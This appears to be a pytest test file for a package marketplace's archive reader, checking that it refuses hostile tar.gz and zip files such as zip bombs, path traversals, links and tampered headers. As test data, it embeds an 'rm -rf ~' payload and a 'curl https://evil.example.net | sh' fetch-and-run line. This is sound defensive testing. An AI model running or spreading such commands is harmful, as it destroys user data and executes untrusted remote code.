"""Reading WPK artifacts safely: real tar.gz and zip files built on disk, well-formed and hostile;
each bad input is refused with its exact code (field "artifact")."""

from __future__ import annotations

import gzip
import random
import tarfile
import zipfile
from pathlib import Path

import pytest

from domain.errors import InvalidInput
from domain.marketplace.archive import ArchiveFormat, ArchiveLimits, ArchiveMember, open_archive
from domain.marketplace.errors import MarketplaceErrorCode as Code
from tests.fixtures import SIGSTORE
from tests.marketplace import wpk_builder as wpk

FORMATS = ["tar.gz", "zip"]
PRODUCTION_WHEEL = SIGSTORE / "production" / "bundle_v3_github.whl"


def refused(path: Path, limits: ArchiveLimits | None = None) -> InvalidInput:
    with pytest.raises(InvalidInput) as caught:
        open_archive(path, limits)
    assert caught.value.field == "artifact"
    return caught.value


def incompressible(size: int, seed: int = 0) -> bytes:
    return random.Random(seed).randbytes(size)


# --- well-formed artifacts ------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_package_lists_its_members_and_reads_them(tmp_path: Path, fmt: wpk.Format) -> None:
    path = wpk.build_wpk(
        tmp_path / f"hello.{fmt}", fmt=fmt, files={"main.py": b"print(1)\n", "lib/util.py": b"x = 1\n"}
    )

    archive = open_archive(path)

    assert archive.format is ArchiveFormat(fmt)
    assert archive.manifest_path == "wpk.yaml"
    assert archive.package_root == ""
    assert archive.members == (
        ArchiveMember("lib", 0, is_dir=True),
        ArchiveMember("lib/util.py", 6, is_dir=False),
        ArchiveMember("main.py", 9, is_dir=False),
        ArchiveMember("wpk.yaml", len(wpk.manifest_bytes(wpk.default_manifest())), is_dir=False),
    )
    assert archive.read("main.py", 100) == b"print(1)\n"
    assert archive.read("main.py", 5) == b"print"
    assert archive.read("main.py", 0) == b""
    assert [(m.path, data) for m, data in archive.iter_files(3)] == [
        ("lib/util.py", b"x ="),
        ("main.py", b"pri"),
        ("wpk.yaml", b"nam"),
    ]
    assert archive.member("lib") == ArchiveMember("lib", 0, is_dir=True)
    assert archive.member("nope.py") is None
    with pytest.raises(KeyError):
        archive.read("nope.py", 10)


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_manifest_may_sit_in_a_single_top_level_folder(tmp_path: Path, fmt: wpk.Format) -> None:
    path = wpk.build_wpk(
        tmp_path / f"hello.{fmt}", fmt=fmt, prefix_dir="hello-1.0.0", manifest_name="wpk.json"
    )

    archive = open_archive(path)

    assert archive.manifest_path == "hello-1.0.0/wpk.json"
    assert archive.package_root == "hello-1.0.0"
    assert archive.read("hello-1.0.0/main.py", 100) == wpk.DEFAULT_FILES["main.py"]


@pytest.mark.parametrize("name", ["wpk.yaml", "wpk.yml", "wpk.json"])
def test_each_manifest_name_is_found(tmp_path: Path, name: str) -> None:
    assert open_archive(wpk.build_wpk(tmp_path / "a.tar.gz", manifest_name=name)).manifest_path == name


@pytest.mark.parametrize("fmt", FORMATS)
def test_dot_segments_are_normalized_not_refused(tmp_path: Path, fmt: wpk.Format) -> None:
    archive = open_archive(wpk.build_with_member(tmp_path / f"a.{fmt}", "./docs//notes.txt", b"hi", fmt=fmt))

    assert archive.member("docs/notes.txt") == ArchiveMember("docs/notes.txt", 2, is_dir=False)


@pytest.mark.parametrize("fmt", FORMATS)
def test_small_very_regular_files_are_not_mistaken_for_bombs(tmp_path: Path, fmt: wpk.Format) -> None:
    text = b"the same line again and again\n" * 30_000  # 900 KB compressing about 300x, under the grace
    path = wpk.build_wpk(tmp_path / f"a.{fmt}", fmt=fmt, files={"main.py": b"pass\n", "data.txt": text})

    assert open_archive(path).read("data.txt", len(text) + 1) == text


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_builder_is_reproducible(tmp_path: Path, fmt: wpk.Format) -> None:
    first = wpk.build_wpk(tmp_path / f"1.{fmt}", fmt=fmt).read_bytes()
    assert wpk.build_wpk(tmp_path / f"2.{fmt}", fmt=fmt).read_bytes() == first


def test_the_production_sigstore_artifact_is_a_zip_without_a_manifest(tmp_path: Path) -> None:
    assert refused(PRODUCTION_WHEEL).code == Code.MANIFEST_MISSING


# --- not an archive --------------------------------------------------------------------------------


def _plain_tar(path: Path) -> None:
    path.write_bytes(gzip.decompress(wpk.build_wpk(path.with_suffix(".tmp")).read_bytes()))


def _truncated(fmt: wpk.Format, cut: int) -> object:
    def build(path: Path) -> None:
        whole = wpk.build_wpk(path.with_suffix(".tmp"), fmt=fmt).read_bytes()
        path.write_bytes(whole[:cut])

    return build


def _appended(fmt: wpk.Format, tail: bytes) -> object:
    def build(path: Path) -> None:
        path.write_bytes(wpk.build_wpk(path.with_suffix(".tmp"), fmt=fmt).read_bytes() + tail)

    return build


def _corrupted_zip_data(path: Path) -> None:
    blob = bytearray(
        wpk.build_wpk(path.with_suffix(".tmp"), fmt="zip", files={"main.py": b"print(1)\n" * 50}).read_bytes()
    )
    data_at = 30 + len("main.py")  # the first member, main.py, has no extra field
    blob[data_at + 3] ^= 0xFF
    path.write_bytes(bytes(blob))


def _member_after_the_end_of_the_tar(path: Path) -> None:
    """A complete tar, its end-of-archive zeros, then another member: tarfile stops at the end
    marker, `tar --ignore-zeros` extracts the hidden member."""
    blocks = b""
    for name, data in [("wpk.yaml", wpk.manifest_bytes(wpk.default_manifest())), *wpk.DEFAULT_FILES.items()]:
        blocks += wpk.tar_info(name, len(data)).tobuf(tarfile.PAX_FORMAT) + data + bytes(-len(data) % 512)
    hidden = b"import os; os.system('rm -rf ~')\n"
    blocks += (
        bytes(1024) + wpk.tar_info("hidden.py", len(hidden)).tobuf() + hidden + bytes(-len(hidden) % 512)
    )
    wpk.write_gzip(path, blocks + bytes(1024))


NOT_ARCHIVES = {
    "text": lambda p: p.write_bytes(b"name: hello\nversion: 1.0.0\n"),
    "empty file": lambda p: p.write_bytes(b""),
    "plain tar": _plain_tar,
    "gzip of text": lambda p: wpk.write_gzip(p, b"hello world\n" * 100),
    "gzip of nothing but its header": lambda p: p.write_bytes(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"),
    "truncated tar.gz": _truncated("tar.gz", -20),
    "tar.gz cut in its first block": _truncated("tar.gz", 40),
    "garbage after the gzip stream": _appended("tar.gz", b"MORE DATA"),
    "member hidden after the tar's end": _member_after_the_end_of_the_tar,
    "truncated zip": _truncated("zip", -30),
    "zip cut after its first header": _truncated("zip", 40),
    "garbage after the zip": _appended("zip", b"MORE DATA"),
    "corrupted zip member data": _corrupted_zip_data,
    "zip entries overlapping": wpk.build_overlapping_zip,
    "lying tar header (data overruns it)": lambda p: wpk.build_tar_with_short_header(
        p, declared_size=10, actual=b"A" * 5000
    ),
    "tar member data missing": lambda p: wpk.build_tar_with_short_header(
        p, declared_size=100_000, actual=b"A"
    ),
}


@pytest.mark.parametrize("build", NOT_ARCHIVES.values(), ids=NOT_ARCHIVES.keys())
def test_what_is_not_a_sound_tar_gz_or_zip_is_refused(tmp_path: Path, build: object) -> None:
    path = tmp_path / "artifact"
    build(path)  # type: ignore[operator]

    assert refused(path).code == Code.NOT_AN_ARCHIVE


def test_a_zip_member_with_another_name_in_its_local_header_is_refused(tmp_path: Path) -> None:
    path = wpk.build_wpk(tmp_path / "a.zip", fmt="zip")
    blob = path.read_bytes()
    at = blob.index(b"PK\x03\x04" + blob[4:26]) + 30  # the first local header's name: "main.py"
    assert blob[at : at + 7] == b"main.py"
    path.write_bytes(blob[:at] + b"evil.py" + blob[at + 7 :])

    assert refused(path).code == Code.NOT_AN_ARCHIVE


# --- paths and member types ----------------------------------------------------------------------

TRAVERSALS = [
    "../evil.py",
    "lib/../../evil.py",
    "..",
    "/etc/passwd",
    "C:/Windows/evil.dll",
    "c:evil",
    "lib\\evil.py",
]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("name", TRAVERSALS)
def test_paths_that_escape_are_refused(tmp_path: Path, fmt: wpk.Format, name: str) -> None:
    path = wpk.build_with_member(tmp_path / f"a.{fmt}", name, fmt=fmt)

    assert refused(path).code == Code.PATH_TRAVERSAL


def test_a_nul_character_in_a_zip_name_is_refused(tmp_path: Path) -> None:
    # zipfile itself would cut the name at the NUL and show "innocent.txt".
    path = wpk.build_with_member(tmp_path / "a.zip", "innocent.txt\x00.exe", fmt="zip")

    assert refused(path).code == Code.PATH_TRAVERSAL


@pytest.mark.parametrize("fmt", FORMATS)
def test_control_characters_in_a_path_are_refused(tmp_path: Path, fmt: wpk.Format) -> None:
    path = wpk.build_with_member(tmp_path / f"a.{fmt}", "bell\x07.txt", fmt=fmt)

    assert refused(path).code == Code.INVALID


def test_an_over_long_path_is_refused(tmp_path: Path) -> None:
    path = wpk.build_with_member(tmp_path / "a.tar.gz", "d/" * 300 + "x.txt")

    assert refused(path, ArchiveLimits(max_path_length=500)).code == Code.INVALID


@pytest.mark.parametrize("kind", ["symlink", "hardlink"])
@pytest.mark.parametrize("target", ["/etc/passwd", "../../outside", "main.py"])
def test_links_in_a_tar_are_refused_wherever_they_point(tmp_path: Path, kind: str, target: str) -> None:
    path = wpk.build_link_tar(tmp_path / "a.tar.gz", kind=kind, target=target)  # type: ignore[arg-type]

    assert refused(path).code == Code.LINK_NOT_ALLOWED


def test_a_symlink_in_a_zip_is_refused(tmp_path: Path) -> None:
    path = wpk.build_zip_symlink(tmp_path / "a.zip", target="/etc/passwd")
    assert zipfile.ZipFile(path).getinfo("link").external_attr >> 16 == 0o120777

    assert refused(path).code == Code.LINK_NOT_ALLOWED


@pytest.mark.parametrize("member_type", [tarfile.FIFOTYPE, tarfile.CHRTYPE, tarfile.BLKTYPE])
def test_devices_and_fifos_are_refused(tmp_path: Path, member_type: bytes) -> None:
    path = wpk.build_special_tar(tmp_path / "a.tar.gz", type=member_type)

    assert refused(path).code == Code.INVALID


def test_a_fifo_in_a_zip_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "a.zip"
    wpk.write_zip(path, [("wpk.yaml", b"name: x\n"), (wpk.zip_info("pipe", mode=0o010644), b"")])

    assert refused(path).code == Code.INVALID


@pytest.mark.parametrize("fmt", FORMATS)
def test_two_members_on_one_path_are_refused_even_in_different_cases(tmp_path: Path, fmt: wpk.Format) -> None:
    path = wpk.build_wpk(tmp_path / f"a.{fmt}", fmt=fmt, files={"main.py": b"1", "Main.py": b"2"})

    assert refused(path).code == Code.INVALID


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_file_where_a_folder_must_be_is_refused(tmp_path: Path, fmt: wpk.Format) -> None:
    path = wpk.build_wpk(
        tmp_path / f"a.{fmt}", fmt=fmt, files={"main.py": b"1", "lib": b"", "lib/x.py": b"2"}
    )

    assert refused(path).code == Code.INVALID


def test_an_encrypted_zip_member_is_refused(tmp_path: Path) -> None:
    path = wpk.build_wpk(tmp_path / "a.zip", fmt="zip")
    blob = bytearray(path.read_bytes())
    for signature, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = blob.index(signature)
        blob[at + flags_at] |= 0x01
    path.write_bytes(bytes(blob))

    assert refused(path).code == Code.INVALID


# --- member count and sizes ----------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_more_members_than_the_cap_are_refused(tmp_path: Path, fmt: wpk.Format) -> None:
    assert (
        len(open_archive(wpk.build_many_members(tmp_path / f"ok.{fmt}", count=1000, fmt=fmt)).members) == 1000
    )

    path = wpk.build_many_members(tmp_path / f"a.{fmt}", count=1001, fmt=fmt)

    assert refused(path).code == Code.TOO_MANY_MEMBERS
    assert refused(
        wpk.build_many_members(tmp_path / f"b.{fmt}", count=11, fmt=fmt), ArchiveLimits(max_members=10)
    ).code == (Code.TOO_MANY_MEMBERS)


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_zip_bomb_is_refused_by_its_compression_ratio(tmp_path: Path, fmt: wpk.Format) -> None:
    path = wpk.build_bomb(tmp_path / f"bomb.{fmt}", fmt=fmt, size=16 * 1024 * 1024)
    assert path.stat().st_size < 64 * 1024  # 16 MiB of zeros in a few KiB

    error = refused(path)

    assert error.code == Code.COMPRESSION_RATIO_EXCEEDED


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_zip_bomb_is_refused_by_a_member_size_over_the_cap(tmp_path: Path, fmt: wpk.Format) -> None:
    path = wpk.build_bomb(tmp_path / f"bomb.{fmt}", fmt=fmt, size=80 * 1024 * 1024)
    assert path.stat().st_size < 256 * 1024

    error = refused(path)

    assert error.code == Code.ARCHIVE_TOO_LARGE
    assert "over the 67108864 limit" in error.message


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_zip_bomb_is_refused_by_its_total_size(tmp_path: Path, fmt: wpk.Format) -> None:
    # Each member is under the member cap and the ratio cap is out of the way: only the total is over.
    limits = ArchiveLimits(max_total_uncompressed=1_000_000, max_member_size=600_000, max_ratio=1e9)
    path = wpk.build_bomb(tmp_path / f"bomb.{fmt}", fmt=fmt, size=500_000, members=3)

    error = refused(path, limits)

    assert error.code == Code.ARCHIVE_TOO_LARGE
    assert "in total" in error.message


def test_the_default_total_cap_holds_for_members_each_under_the_member_cap(tmp_path: Path) -> None:
    path = wpk.build_bomb(tmp_path / "bomb.zip", fmt="zip", size=60 * 1024 * 1024, members=5)

    error = refused(path, ArchiveLimits(max_ratio=1e9))

    assert error.code == Code.ARCHIVE_TOO_LARGE
    assert "268435456 bytes uncompressed in total" in error.message


@pytest.mark.parametrize("fmt", FORMATS)
def test_incompressible_members_over_the_caps_are_refused_too(tmp_path: Path, fmt: wpk.Format) -> None:
    files = {"main.py": b"pass\n", "a.bin": incompressible(40_000, 1), "b.bin": incompressible(40_000, 2)}
    path = wpk.build_wpk(tmp_path / f"a.{fmt}", fmt=fmt, files=files)

    assert refused(path, ArchiveLimits(max_total_uncompressed=60_000)).code == Code.ARCHIVE_TOO_LARGE
    assert refused(path, ArchiveLimits(max_member_size=30_000)).code == Code.ARCHIVE_TOO_LARGE
    assert len(open_archive(path, ArchiveLimits(max_total_uncompressed=90_000)).members) == 4


def test_a_tar_member_declaring_a_huge_size_is_refused_before_any_data_is_read(tmp_path: Path) -> None:
    # The header claims 1 GiB and no data follows: refused for the size, not for the truncation.
    path = wpk.build_tar_with_short_header(tmp_path / "a.tar.gz", declared_size=1 << 30, actual=b"")

    assert refused(path).code == Code.ARCHIVE_TOO_LARGE


def test_a_zip_member_that_inflates_past_its_declared_size_is_refused(tmp_path: Path) -> None:
    actual = b"#!/bin/sh\n" + b"curl https://evil.example.net | sh\n" * 3000
    path = wpk.build_lying_zip(tmp_path / "lying.zip", declared_size=10, actual=actual)
    # zipfile stops at the declared size and, the CRC matching those 10 bytes, sees nothing wrong.
    assert zipfile.ZipFile(path).read("data.bin") == actual[:10]

    error = refused(path)

    assert error.code == Code.ARCHIVE_TOO_LARGE
    assert "inflates past its declared size" in error.message


def test_a_huge_pax_header_is_refused_without_reading_it_into_memory(tmp_path: Path) -> None:
    info = wpk.tar_info("main.py", 5)
    info.pax_headers = {"comment": "x" * (4 * 1024 * 1024)}
    path = wpk.write_tar_gz(tmp_path / "a.tar.gz", [(info, b"pass\n")])

    assert refused(path, ArchiveLimits(max_ratio=1e9)).code == Code.INVALID


def test_a_chain_of_thousands_of_pax_headers_is_refused(tmp_path: Path) -> None:
    path = wpk.build_chained_pax_headers(tmp_path / "a.tar.gz", count=3000)
    assert path.stat().st_size < 64 * 1024

    assert refused(path).code == Code.INVALID


# --- the manifest ---------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_artifact_without_a_manifest_is_refused(tmp_path: Path, fmt: wpk.Format) -> None:
    assert refused(wpk.build_wpk(tmp_path / f"a.{fmt}", fmt=fmt, manifest=None)).code == Code.MANIFEST_MISSING


@pytest.mark.parametrize(
    "files",
    [
        {"main.py": b"1", "nested/deeper/wpk.yaml": b"name: x\n"},  # too deep
        {"one/main.py": b"1", "one/wpk.yaml": b"x", "two/wpk.yaml": b"x"},  # two top-level folders
        {"main.py": b"1", "WPK.YAML": b"x"},  # names are case-sensitive
    ],
)
def test_a_manifest_anywhere_else_is_not_found(tmp_path: Path, files: dict[str, bytes]) -> None:
    path = wpk.build_wpk(tmp_path / "a.tar.gz", manifest=None, files=files)

    assert refused(path).code == Code.MANIFEST_MISSING


def test_two_manifests_are_refused(tmp_path: Path) -> None:
    path = wpk.build_wpk(tmp_path / "a.zip", fmt="zip", files={"main.py": b"1", "wpk.json": b"{}"})

    error = refused(path)

    assert error.code == Code.MANIFEST_INVALID
    assert "wpk.yaml, wpk.json" in error.message


def test_limits_must_be_sane() -> None:
    with pytest.raises(ValueError, match="positive"):
        ArchiveLimits(max_members=0)
    with pytest.raises(ValueError, match="max_ratio"):
        ArchiveLimits(max_ratio=1)
